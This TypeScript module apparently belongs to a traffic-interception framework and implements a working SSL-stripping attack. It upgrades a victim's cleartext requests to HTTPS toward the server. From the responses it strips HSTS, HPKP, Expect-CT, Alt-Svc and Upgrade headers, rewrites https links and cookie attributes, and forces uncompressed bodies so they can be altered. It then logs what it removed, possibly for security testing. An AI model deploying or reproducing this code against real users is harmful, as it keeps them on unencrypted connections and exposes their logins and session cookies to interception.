import type { TlsStripped } from '../../facts/facts.ts';
import { stripBody, stripValue } from '../strip/body.ts';
import type { HeaderKind } from '../strip/body.ts';
import { openCookie } from '../strip/cookies.ts';
import { textKind } from '../strip/media-type.ts';
import { POLICY_HEADERS } from '../strip/policies.ts';
import { codingsOf, recoded } from '../strip/recoding.ts';
import { dropHeader, hasHeader, rawHeaderValue } from '../leash/raw-headers.ts';
import type { RawHeaders } from '../leash/raw-headers.ts';
import type { NamedAttack, Situation } from './attack.ts';
import type { InterceptedExchange } from './intercepted-exchange.ts';

/**
 * SSL stripping (Marlinspike, 2009; the threat of RFC 6797, section 2.3.1): the victim's requests in
 * clear are fetched from the bank over TLS, and whatever in the answers would lead the victim to TLS is
 * taken out. TLS that comes all the same is passed on sealed. What could not be taken out is said.
 */
export const strip = {
  word: 'strip',
  meaning: 'keeps the victim on http',
  tls: 'tunnel',
  fetches: (logical) => (logical.endsWith(':80') ? logical.replace(/80$/, '443') : undefined),
  request: (exchange, situation) => {
    if (situation.fetched !== situation.logical) upgradeRequest(exchange.requestHeaders, situation);
  },
  response: (exchange, situation) => {
    if (situation.fetched !== situation.logical) downgradeResponse(exchange, situation);
  },
} as const satisfies NamedAttack;

/** The bank is to see a request as its own pages over TLS would make it, and to answer it whole and in no coding. */
function upgradeRequest(headers: RawHeaders, { logical }: Situation): void {
  const origin = new RegExp(`^http://${escaped(nameOf(logical))}(:80)?(?=/|$)`, 'i');
  // A part of a page begins and ends within addresses, and no longer fits once it is changed.
  for (const part of ['range', 'if-range']) dropHeader(headers, part);
  for (const [name, value] of Object.entries(headers)) {
    const lower = name.toLowerCase();
    if (lower === 'accept-encoding') headers[name] = 'identity';
    else if (lower === 'origin' || lower === 'referer')
      headers[name] = each(value, (line) => line.replace(origin, `https://${nameOf(logical)}`));
    else if (lower === 'host' && typeof value === 'string') headers[name] = value.replace(/:(80|443)$/, '');
  }
}

/** Headers that bind a browser to TLS or lead it there, besides HSTS: RFC 9163, RFC 7469, RFC 7838 and RFC 9110, section 7.8. */
const BINDING = [
  'expect-ct',
  'public-key-pins',
  'public-key-pins-report-only',
  'alt-svc',
  'alternate-protocol',
  'upgrade',
];

/** Headers whose value is one address. */
const ADDRESSES = new Set(['location', 'content-location']);

type Counts = Pick<TlsStripped, 'links' | 'cookies' | 'hsts'> & {
  policies: number;
  lost: number;
  taken: string[];
};

function downgradeResponse(exchange: InterceptedExchange, { logical, report }: Situation): void {
  const { method, target, status, responseHeaders: headers } = exchange;
  const name = nameOf(logical);
  const counts = downgradeHead(headers, name, status);
  const page = name + target;
  const done = (body: { links: number; policies: number; left?: string }): void => {
    const { links, cookies, hsts, policies, lost, taken } = counts;
    const stated = policies + body.policies;
    report({
      type: 'tls-stripped',
      asked: `http://${page}`,
      fetched: `https://${page}`,
      links: links + body.links,
      cookies,
      hsts,
      ...(stated === 0 ? {} : { policies: stated }),
      ...(lost === 0 ? {} : { lost }),
      ...(taken.length === 0 ? {} : { taken }),
      ...(body.left === undefined ? {} : { left: body.left }),
    });
  };
  const left = (why?: string): void =>
    done({ links: 0, policies: 0, ...(why === undefined ? {} : { left: why }) });
  const type = rawHeaderValue(headers, 'content-type');
  const kind = textKind(type);
  const bodiless = method === 'HEAD' || status < 200 || status === 204 || status === 304;
  if (bodiless || kind === undefined) left();
  else if (kind === 'stream') left('it is a stream, which may never end');
  else if (status === 206 || hasHeader(headers, 'content-range')) left('it is a part of a page');
  else {
    const codings = codingsOf(rawHeaderValue(headers, 'content-encoding'));
    exchange.rewriteResponseBody(
      (text) => {
        const body = recoded(Buffer.from(text, 'latin1'), codings, (bytes) => stripBody(bytes, type, name));
        done(body);
        return body.bytes.toString('latin1');
      },
      () => left('it is too large to hold'),
    );
  }
}

function downgradeHead(headers: RawHeaders, name: string, status: number): Counts {
  const hsts = dropHeader(headers, 'strict-transport-security');
  const counts = { links: 0, cookies: 0, hsts, policies: 0, lost: 0, taken: takeOut(headers, status) };
  for (const [header, value] of Object.entries(headers)) {
    const lower = header.toLowerCase();
    if (lower === 'set-cookie')
      headers[header] = each(value, (line) => {
        const cookie = openCookie(line);
        if (cookie.lost) counts.lost += 1;
        if (cookie.line.length < line.length) counts.cookies += 1;
        return cookie.line;
      });
    else
      headers[header] = each(value, (line) => {
        const stripped = stripValue(line, headerKind(lower), name);
        counts.links += stripped.links;
        counts.policies += stripped.policies;
        return stripped.value;
      });
  }
  return counts;
}

function headerKind(lower: string): HeaderKind {
  if (POLICY_HEADERS.has(lower)) return 'policy';
  return ADDRESSES.has(lower) ? 'url' : 'list';
}

/** Takes out what binds a browser to TLS; gives the names. An answer that does change its protocol keeps the header that says to which. */
function takeOut(headers: RawHeaders, status: number): string[] {
  const taken = BINDING.filter(
    (header) => (status !== 101 || header !== 'upgrade') && dropHeader(headers, header),
  );
  if (!taken.includes('upgrade')) return taken;
  for (const [name, value] of Object.entries(headers)) {
    if (name.toLowerCase() !== 'connection') continue;
    const options = value
      .toString()
      .split(',')
      .map((option) => option.trim());
    const others = options.filter((option) => option !== '' && option.toLowerCase() !== 'upgrade');
    if (others.length === 0) delete headers[name];
    else headers[name] = others.join(', ');
  }
  return taken;
}

function each(value: string | string[], change: (line: string) => string): string | string[] {
  return typeof value === 'string' ? change(value) : value.map(change);
}

function nameOf(logical: string): string {
  return logical.replace(/:\d+$/, '');
}

function escaped(name: string): string {
  return name.replaceAll('.', String.raw`\.`);
}
